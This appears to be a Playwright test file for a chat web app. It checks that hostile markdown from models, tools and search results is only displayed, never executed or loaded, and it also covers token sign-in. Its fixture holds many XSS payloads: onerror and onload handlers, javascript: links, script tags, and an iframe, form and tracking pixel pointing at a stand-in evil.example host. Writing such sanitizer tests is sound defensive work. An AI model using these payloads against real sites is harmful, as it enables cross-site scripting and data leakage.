"""What models, tools and pages write runs nothing and loads nothing (report 42).

Every tab of these tests also fails on a request to anywhere else, on a policy violation and on a console error.
"""

import json
import re
from typing import Any

import pytest
from playwright.async_api import Browser, expect

from tests.browser.conftest import OpenTab, Serve
from tests.support.browser import LOST, Tab, open_context
from tests.support.fake import FakeApi
from tests.support.server import Server

HOSTILE = """<img src=x onerror="window.ran=1"> <script>window.ran=1</script>

<iframe src="https://evil.example/frame"></iframe>

<svg onload="window.ran=1"><foreignObject><b>b</b></foreignObject></svg>

![tracked](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload=window.ran=1>)

[click me](javascript:window.ran=1) [and me](JaVa\tScRiPt:window.ran=1)
[data](data:text/html,<script>window.ran=1</script>)
[vb](vbscript:x) <javascript:window.ran=1> [real](https://example.com/real "title\\" onmouseover=\\"window.ran=1")

<a href="javascript:window.ran=1" onclick="window.ran=1">raw link</a>
<form action="https://evil.example"><input name=q></form>

```html
<img src=x onerror="window.ran=1"><script>window.ran=1</script>
```

```mermaid
graph TD; A-->B; click A href "javascript:window.ran=1"
```

| <img src=x onerror=window.ran=1> | b |
|---|---|
| `<script>window.ran=1</script>` | <style>*{display:none}</style> |

$$\\href{javascript:window.ran=1}{x}$$

<details ontoggle="window.ran=1" open><summary>x</summary></details> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
"""

SEEN = """(root) => {
  const active = "script iframe img foreignobject form base meta style object embed link".split(" ");
  const all = [...root.querySelectorAll("*")];
  return {
    ran: window.ran ?? null,
    elements: all.map((one) => one.localName.toLowerCase()).filter((name) => active.includes(name)),
    handlers: all.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
    links: all.filter((one) => one.hasAttribute("href") || one.hasAttribute("src"))
      .map((one) => one.getAttribute("href") ?? one.getAttribute("src")),
  };
}"""


async def check_harmless(tab: Tab) -> list[str]:
    """Fail if the conversation holds anything that could act; returns the addresses of its links."""
    await tab.painted()
    seen: dict[str, Any] = await tab.transcript.evaluate(SEEN)
    assert seen["ran"] is None
    assert seen["elements"] == []
    assert seen["handlers"] in ([], ["style"] * len(seen["handlers"]))
    links: list[str] = seen["links"]
    assert all(link.startswith(("https://", "http://", "#")) for link in links), links
    return links


@pytest.mark.parametrize("chunk", [len(HOSTILE), 3])
async def test_hostile_markdown_runs_nothing_and_loads_nothing(tab: Tab, fake: FakeApi, chunk: int) -> None:
    pieces = [HOSTILE[at : at + chunk] for at in range(0, len(HOSTILE), chunk)]
    await fake.say(*pieces, {"text": "\n\nThe end.", "hold": "end"})
    await tab.send("write something")
    await fake.wait(held="end")
    await expect(tab.answers.last).to_contain_text("raw link")
    await check_harmless(tab)
    async with tab.turn():
        await fake.release("end")
    await expect(tab.answers.last).to_contain_text("The end.")
    links = await check_harmless(tab)
    assert "https://example.com/real" in links
    await expect(tab.answers.get_by_role("link", name="real")).to_have_attribute("rel", "noopener noreferrer nofollow")

    await tab.answers.get_by_text("click me").click()
    await tab.answers.get_by_text("raw link").click()
    await check_harmless(tab)
    await expect(tab.answers.last).to_contain_text('<img src=x onerror="window.ran=1">')


async def test_hostile_words_of_people_tools_and_titles_are_only_shown(tab: Tab, fake: FakeApi) -> None:
    hostile = "<img src=x onerror=window.ran=1>"
    (tab.server.workspace / "hostile.md").write_text(HOSTILE)
    await fake.script({"blocks": [{"type": "tool_use", "name": "read", "input": {"path": "hostile.md"}}]})
    await fake.say("Read.")
    await tab.ask(hostile)
    await expect(tab.page.get_by_test_id("chat-title")).to_have_text(hostile)
    await expect(tab.page.get_by_test_id("chat-line").filter(has_text=hostile).first).to_be_visible()
    await tab.cards.get_by_role("button").first.click()
    await expect(tab.cards).to_contain_text("window.ran=1")
    await check_harmless(tab)

    await fake.script({"blocks": [{"type": "tool_use", "name": hostile[:60], "input": {hostile: hostile}}]})
    await fake.say("Called.")
    await tab.ask("call something odd")
    await tab.cards.last.get_by_role("button").first.click()
    await expect(tab.cards.last).to_contain_text("is not available in this turn")
    await check_harmless(tab)


async def test_search_results_cannot_smuggle_links(tab: Tab, fake: FakeApi) -> None:
    results = [
        {"title": "good", "url": "https://example.com/good", "snippet": "fine"},
        {"title": "bad", "url": "javascript:window.ran=1", "snippet": "<b>x</b>"},
    ]
    shown = json.dumps(results)
    await fake.script({"blocks": [{"type": "tool_use", "name": "web_search", "input": {"query": shown}}]})
    await fake.say("Found.")
    await tab.chip.click()
    await tab.ask("search")
    await tab.cards.get_by_role("button").first.click()
    await expect(tab.page.get_by_test_id("sources").get_by_role("link")).not_to_have_count(0)
    links = await check_harmless(tab)
    assert links


async def test_signing_in_is_needed_and_a_wrong_token_is_told(server: Server, browser: Browser) -> None:
    stranger = await open_context(browser)
    page = await stranger.new_page()
    await page.goto(f"{server.url}/")
    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    await page.get_by_label("Token").fill("wrong")
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("alert")).to_contain_text("not the right one")
    await page.get_by_label("Token").fill(server.token)
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_visible()
    assert server.token not in page.url
    await stranger.close()


async def test_a_tab_whose_sign_in_is_gone_says_so(serve: Serve, open_page: OpenTab) -> None:
    server = await serve()
    tab = await open_page(server)
    tab.expect_complaints(LOST)
    tab.expect_complaints(re.compile("status of 401"))
    await tab.page.context.clear_cookies()
    await server.kill()
    await server.start()
    await tab.wake()
    screen = tab.page.get_by_test_id("link-screen")
    await expect(screen).to_have_attribute("data-reason", "refused")
    await expect(screen).to_contain_text("Please sign in")
    await screen.get_by_role("link", name="Go to the sign-in page").click()
    await tab.page.get_by_label("Token").fill(server.token)
    await tab.page.get_by_role("button", name="Sign in").click()
    await expect(tab.box).to_be_visible()
